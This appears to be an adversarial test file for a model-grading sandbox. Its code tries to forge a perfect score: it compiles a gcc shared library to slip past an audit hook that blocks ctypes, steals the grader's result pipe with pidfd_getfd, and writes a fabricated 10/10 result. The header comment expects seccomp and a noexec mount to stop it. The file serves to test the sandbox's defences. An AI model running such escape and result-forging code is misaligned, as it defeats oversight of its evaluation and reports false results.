# adversarial: SGD model; ctypes is refused, so it compiles a shared library with the system's gcc in its own run directory and loads it through the ordinary import machinery (an extension-module loader: the audit hook only refuses ctypes and cffi); the library's constructor runs pidfd_open(PIDFD_THREAD) + pidfd_getfd on every thread of the process to take the sender's result pipe (its number read from the sender's frame) into the main thread's table, where a forged 10/10 result is written before os._exit(0) [verdict: run directories are a tmpfs mounted noexec, so the library cannot be mapped; seccomp refuses pidfd_getfd besides]
# expect-status: failed
# expect-kind: none
# expect-max-score: 8
import json
import os

import keras


def forged_payload():
    from grader.child.export import weight_values
    from grader.integrity.layer_state import model_layer_states, weight_state
    ref = keras.Sequential([
        keras.Input(shape=(64,)),
        keras.layers.Dense(512, activation="relu"),
        keras.layers.Dense(10, activation="softmax"),
    ])
    ref.compile(optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"])
    return {"model": {"variable": "model", "config": json.loads(ref.to_json()),
                      "weight_values": [weight_values(w) for w in ref.weights], "preprocessing": [],
                      "integrity": {"layer-state": {
                          "weight_shapes": [list(w.shape) for w in ref.get_weights()],
                          "weight_state": [weight_state(w) for w in ref.weights],
                          "layer_state": model_layer_states(ref)}}, "compiled": True,
                      "compile_config": json.loads(json.dumps(ref.get_compile_config(), default=repr))},
            "notes": []}


PAYLOAD = json.dumps(forged_payload()).encode()

import importlib.machinery
import importlib.util
import subprocess
import sys
import threading

model = keras.Sequential([
    keras.Input(shape=(64,)),
    keras.layers.Dense(512, activation="relu"),
    keras.layers.Dense(10, activation="softmax"),
])
model.compile(optimizer="sgd", loss="sparse_categorical_crossentropy", metrics=["accuracy"])

TAKEN = 900  # where the library leaves the pipe in the main thread's table
SOURCE = r"""
#include <stdlib.h>
#include <unistd.h>
#include <sys/syscall.h>
#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif
#define PIDFD_THREAD 0200 /* O_EXCL */
__attribute__((constructor)) static void take(void) {
    const char *wanted = getenv("RESULT_FD");
    if (!wanted) return;
    int target = atoi(wanted), self = (int)syscall(SYS_gettid);
    for (int tid = 1; tid < 4096; tid++) {
        if (tid == self) continue;
        int pidfd = (int)syscall(SYS_pidfd_open, tid, PIDFD_THREAD);
        if (pidfd < 0) continue;
        int fd = (int)syscall(SYS_pidfd_getfd, pidfd, target, 0);
        close(pidfd);
        if (fd >= 0) { dup2(fd, %d); close(fd); return; }
    }
}
""" % TAKEN

result_fd = None
try:
    other_frames = sys._current_frames().items()
except PermissionError:  # refused outside the sender thread: the walls after it are tested too
    other_frames = []
for ident, frame in other_frames:
    if ident != threading.get_ident() and isinstance(frame.f_locals.get("fd"), int):
        result_fd = frame.f_locals["fd"]
try:
    with open("take.c", "w") as source:
        source.write(SOURCE)
    built = subprocess.run(["gcc", "-shared", "-fPIC", "-o", "take.so", "take.c"], capture_output=True, text=True)
    print("gcc:", built.returncode, built.stderr[-500:])
    os.environ["RESULT_FD"] = str(result_fd if result_fd is not None else 1024)
    loader = importlib.machinery.ExtensionFileLoader("take", os.path.abspath("take.so"))
    try:
        loader.create_module(importlib.util.spec_from_loader("take", loader))
    except ImportError as missing_init:  # no PyInit_take: the constructor has run anyway
        print("loaded:", missing_init)
    os.write(TAKEN, PAYLOAD)
    print("ESCAPED: wrote a forged result to the sender's pipe taken with pidfd_getfd from a gcc-built library")
    sys.stdout.flush()
    os._exit(0)
except OSError as refused:
    print("refused:", refused)
